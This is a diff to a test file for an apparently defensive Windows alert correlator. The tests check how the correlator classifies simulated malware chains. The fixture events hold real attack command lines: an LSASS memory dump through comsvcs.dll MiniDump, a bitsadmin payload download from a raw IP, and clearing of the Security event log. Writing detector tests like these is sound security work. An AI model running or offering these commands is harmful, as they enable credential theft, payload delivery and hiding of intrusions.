@@ -136,7 +136,7 @@ describe('correlator: the black chain', () => {
     expect(view).toBeDefined();
     expect(view.alert).toMatchObject({ state: 'reported', verdict: 'black', sha256: PAYLOAD_SHA, path: PAYLOAD_PATH, threat: 'Trojan:Win32/Kiseki.A', revision: 1, supportId: 'T1', computer: 'PC-0001' });
     const report = view.revisions[0]!;
-    expect(report.sections.map((s) => s.id)).toEqual(['origin', 'chain', 'descendants', 'filesWritten', 'registry', 'filesRead', 'network', 'attributes']);
+    expect(report.sections.map((s) => s.id)).toEqual(['origin', 'chain', 'descendants', 'filesWritten', 'registry', 'filesRead', 'network', 'attributes', 'processAccess', 'imageLoads', 'pipes']);
 
     // 1. Origin: written by powershell (a script download).
     expect(report.originKind).toBe('script');
@@ -161,13 +161,28 @@ describe('correlator: the black chain', () => {
     expect(report.executed).toBe(true);
     expect(report.verdict).toBe('black');
     expect(ruleIds(report)).toEqual(
-      ['chain.document-spawns-script', 'execution.executed', 'lolbin.powershell-encoded', 'network.raw-ip', 'origin.script-download', 'persistence.run-key'].sort(),
+      [
+        'behaviour.persistence',
+        'chain.document-spawns-script',
+        'chain.script-host-parent',
+        'execution.executed',
+        'lolbin.powershell-encoded',
+        'network.raw-ip',
+        'origin.script-download',
+        'persistence.run-key',
+        'provenance.unsigned',
+        'provenance.user-writable',
+      ].sort(),
     );
     const hit = (id: string) => report.rules.find((x) => x.ruleId === id)!;
     expect(hit('chain.document-spawns-script').evidence.map((e) => e.seq)).toEqual([7]);
     expect(hit('persistence.run-key').evidence.map((e) => e.seq)).toEqual([11]);
     expect(hit('network.raw-ip').evidence.map((e) => e.seq)).toEqual([12]);
     expect(view.verdicts).toEqual([expect.objectContaining({ from: null, to: 'black', revision: 1, by: 'engine' })]);
+    // The encoded command is decoded into the report; the verdict states its confidence.
+    expect(section(report, 'chain').items[2]!.note).toBe('decoded -EncodedCommand: IEX (New-Object)');
+    expect(report.execution).toMatchObject({ how: 'process', pg: PAYLOAD });
+    expect(report.confidence?.level).toBe('high');
   });
 
   it('revises the report when the payload keeps acting within the window, keeping each revision', async () => {
@@ -285,7 +300,7 @@ describe('correlator: white, gray, dedup, exceptions and policy', () => {
     ]);
     const report = r.store.alerts.view(alertIdFor(r.tmid, 4))!.revisions[0]!;
     expect(report.originKind).toBe('removable');
-    expect(ruleIds(report)).toEqual(['execution.executed', 'origin.removable']);
+    expect(ruleIds(report)).toEqual(['execution.executed', 'origin.removable', 'provenance.unsigned', 'provenance.user-writable']);
     expect(report.verdict).toBe('gray');
     expect(seqs(report, 'chain')).toEqual([2, 3]);
   });
@@ -425,5 +440,127 @@ describe('correlator: threat intelligence', () => {
     } finally {
       rmSync(dir, { recursive: true, force: true });
     }
+  });
+});
+
+describe('correlator: provenance that follows how Windows runs things, and the verdict model', () => {
+  let r: Rig;
+  beforeEach(async () => {
+    r = await rig();
+  });
+  afterEach(async () => {
+    await r.store.close();
+    rmSync(r.dir, { recursive: true, force: true });
+  });
+
+  const HOST = '{22222222-0000-0000-0000-000000000001}';
+  const CHILD = '{22222222-0000-0000-0000-000000000002}';
+  const SVCHOST = '{22222222-0000-0000-0000-000000000003}';
+  const LOADER = '{22222222-0000-0000-0000-000000000004}';
+  const EXPLORER_START = { pg: EXPLORER, pid: 4000, image: 'C:\\Windows\\explorer.exe', cmd: 'C:\\Windows\\explorer.exe' };
+
+  it('a script run by wscript: executed through its host, with the host chain and descendants, black on credential theft', async () => {
+    const ev = trail();
+    const script = 'C:\\Users\\taro\\Downloads\\invoice.vbs';
+    await r.feed([
+      ev('proc.start', EXPLORER_START),
+      ev('file.create', { pg: CHROME, path: script, vol: 'fixed', originUrl: 'https://mail.example.org/att/invoice.vbs', zone: 3 }),
+      ev('proc.start', { pg: HOST, pid: 5000, ppg: EXPLORER, pimage: 'C:\\Windows\\explorer.exe', image: 'C:\\Windows\\System32\\wscript.exe', cmd: '"C:\\Windows\\System32\\WScript.exe" "invoice.vbs"', cwd: 'C:\\Users\\taro\\Downloads\\' }),
+      ev('proc.start', { pg: CHILD, pid: 5100, ppg: HOST, pimage: 'C:\\Windows\\System32\\wscript.exe', image: 'C:\\Windows\\System32\\rundll32.exe', cmd: 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Users\\taro\\l.dmp full' }),
+      ev('proc.access', { pg: CHILD, tpg: '{22222222-0000-0000-0000-0000000000aa}', timage: 'C:\\Windows\\system32\\lsass.exe', access: '0x1FFFFF' }),
+      ev('av.detect', { engine: 'E', threat: 'Trojan:VBS/X', path: script, action: 'quarantined' }),
+    ]);
+    const report = r.store.alerts.view(alertIdFor(r.tmid, 6))!.revisions[0]!;
+    expect(report.executed).toBe(true);
+    expect(report.execution).toMatchObject({ how: 'hosted', pg: HOST });
+    expect(section(report, 'chain').summary).toBe('explorer.exe → wscript.exe (runs C:\\Users\\taro\\Downloads\\invoice.vbs (script))');
+    expect(seqs(report, 'chain')).toEqual([1, 3]);
+    expect(seqs(report, 'descendants')).toEqual([4]);
+    expect(section(report, 'processAccess').items[0]!.note).toBe('lsass.exe opened with PROCESS_ALL_ACCESS (LSASS memory readable: credential theft)');
+    expect(section(report, 'processAccess').summary).toContain('LSASS was opened');
+    const credential = report.rules.find((h) => h.ruleId === 'behaviour.credential-access')!;
+    expect(credential.evidence.map((e) => e.seq).sort()).toEqual([4, 5]);
+    expect(report.rules.find((h) => h.ruleId === 'behaviour.host-spawns-shell')?.evidence.map((e) => e.seq)).toEqual([4]);
+    expect(report.verdict).toBe('black');
+  });
+
+  it('a DLL run by rundll32 by its relative name: executed, and C2 to a raw IP on 8443 makes it black with no intel', async () => {
+    const ev = trail();
+    const dll = 'C:\\ProgramData\\upd\\helper.dll';
+    await r.feed([
+      ev('proc.start', EXPLORER_START),
+      ev('file.create', { pg: EXPLORER, path: dll, vol: 'fixed' }),
+      ev('proc.start', { pg: HOST, pid: 5000, ppg: EXPLORER, pimage: 'C:\\Windows\\explorer.exe', image: 'C:\\Windows\\System32\\rundll32.exe', cmd: 'rundll32.exe helper,Start', cwd: 'C:\\ProgramData\\upd\\' }),
+      ev('image.load', { pg: HOST, image: 'C:\\Windows\\System32\\rundll32.exe', path: dll, sig: 'unsigned' }),
+      ev('net.conn', { pg: HOST, proto: 'tcp', dir: 'out', lip: '10.0.0.5', lport: 50000, rip: '198.51.100.20', rport: 8443 }),
+      ev('proc.start', { pg: CHILD, pid: 5100, ppg: HOST, image: 'C:\\Windows\\System32\\wevtutil.exe', cmd: 'wevtutil cl Security' }),
+      ev('av.detect', { engine: 'E', threat: 'Trojan:Win32/X', path: dll, action: 'quarantined' }),
+    ]);
+    const report = r.store.alerts.view(alertIdFor(r.tmid, 7))!.revisions[0]!;
+    expect(report.execution).toMatchObject({ how: 'hosted', pg: HOST });
+    expect(section(report, 'imageLoads').items.map((i) => i.note)).toEqual(['the detected file loaded as an image (unsigned)']);
+    const ids = ruleIds(report);
+    expect(ids).toEqual(expect.arrayContaining(['behaviour.c2-unusual-port', 'behaviour.defence-tampering', 'network.raw-ip', 'execution.executed', 'provenance.unsigned']));
+    expect(report.rules.find((h) => h.ruleId === 'behaviour.c2-unusual-port')?.detail).toBe('198.51.100.20:8443');
+    expect(report.verdict).toBe('black');
+  });
+
+  it('a file written by BITS for bitsadmin: its origin is inferred from the requester, shown with its evidence; never run stays gray', async () => {
+    const ev = trail();
+    const file = 'C:\\Users\\taro\\AppData\\Local\\Temp\\stage2.exe';
+    await r.feed([
+      ev('proc.start', EXPLORER_START),
+      ev('proc.start', { pg: HOST, pid: 5000, ppg: EXPLORER, image: 'C:\\Windows\\System32\\bitsadmin.exe', cmd: `bitsadmin /transfer job /download /priority high http://203.0.113.9/stage2.exe ${file}` }),
+      ev('proc.start', { pg: SVCHOST, pid: 900, image: 'C:\\Windows\\System32\\svchost.exe', cmd: 'svchost.exe -k netsvcs -p -s BITS' }),
+      ev('file.create', { pg: SVCHOST, path: file, vol: 'fixed' }),
+      ev('av.detect', { engine: 'E', threat: 'Trojan:Win32/X', path: file, action: 'quarantined' }),
+    ]);
+    const report = r.store.alerts.view(alertIdFor(r.tmid, 5))!.revisions[0]!;
+    expect(report.originKind).toBe('internet');
+    const origin = section(report, 'origin');
+    expect(origin.summary).toContain('Inferred: bitsadmin.exe asked BITS for it from http://203.0.113.9/stage2.exe');
+    expect(origin.items.map((i) => [i.ref.seq, i.note?.slice(0, 43)])).toEqual([
+      [4, 'created the detected file'],
+      [3, 'the process that created the file'],
+      [2, 'inferred: bitsadmin.exe (pid 5000) asked BI'],
+    ]);
+    expect(report.executed).toBe(false);
+    expect(report.verdict).toBe('gray');
+    expect(report.confidence?.level).toBe('low');
+  });
+
+  it('side-loading: an unsigned DLL from a user folder loaded by a signed EXE is listed and weighs in', async () => {
+    const ev = trail();
+    const dir = 'C:\\Users\\taro\\AppData\\Roaming\\Vendor\\';
+    await r.feed([
+      ev('proc.start', EXPLORER_START),
+      ev('proc.start', { pg: LOADER, pid: 6000, ppg: EXPLORER, image: `${dir}VendorUpdate.exe`, cmd: `"${dir}VendorUpdate.exe"` }),
+      ev('image.load', { pg: LOADER, path: `${dir}VendorUpdate.exe`, sig: 'trusted', signer: 'Vendor Software Inc.' }),
+      ev('image.load', { pg: LOADER, path: `${dir}version.dll`, sig: 'unsigned' }),
+      ev('image.load', { pg: LOADER, path: 'C:\\Windows\\System32\\kernel32.dll', sig: 'trusted', signer: 'Microsoft Windows' }),
+      ev('av.detect', { engine: 'E', threat: 'Trojan:Win32/X', path: `${dir}version.dll`, action: 'quarantined' }),
+    ]);
+    const report = r.store.alerts.view(alertIdFor(r.tmid, 6))!.revisions[0]!;
+    expect(report.execution).toMatchObject({ how: 'loaded', pg: LOADER });
+    expect(section(report, 'imageLoads').items.map((i) => [i.ref.seq, i.note])).toEqual([[4, 'the detected file loaded as an image (unsigned)']]);
+    expect(section(report, 'attributes').items[0]!.event).toMatchObject({ sig: 'unsigned' });
+    expect(report.executed).toBe(true);
+  });
+
+  it('lists a side-load by a signed EXE when another file is detected, and a Microsoft-signed file that did nothing is white', async () => {
+    const ev = trail();
+    const exe = 'C:\\Program Files\\Vendor\\app.exe';
+    await r.feed([
+      ev('proc.start', EXPLORER_START),
+      ev('proc.start', { pg: LOADER, pid: 6000, ppg: EXPLORER, image: 'C:\\Windows\\System32\\msiexec.exe', cmd: 'msiexec.exe /V' }),
+      ev('proc.start', { pg: HOST, pid: 6100, ppg: LOADER, image: 'C:\\Windows\\System32\\MsiExec.exe', cmd: 'C:\\Windows\\System32\\MsiExec.exe -Embedding 1234' }),
+      ev('proc.start', { pg: CHILD, pid: 6200, ppg: HOST, image: 'C:\\Windows\\System32\\sc.exe', cmd: 'sc.exe query', sig: 'trusted', signer: 'Microsoft Windows' }),
+      ev('av.detect', { engine: 'E', threat: 'PUA:Win32/X', path: 'C:\\Windows\\System32\\sc.exe', action: 'allowed' }),
+    ]);
+    const report = r.store.alerts.view(alertIdFor(r.tmid, 5))!.revisions[0]!;
+    expect(ruleIds(report)).toEqual(['chain.signed-parent', 'execution.executed', 'signer.installed', 'signer.microsoft', 'signer.trusted']);
+    expect(report.verdict).toBe('white');
+    expect(report.confidence?.level).toBe('medium');
+    void exe;
   });
 });
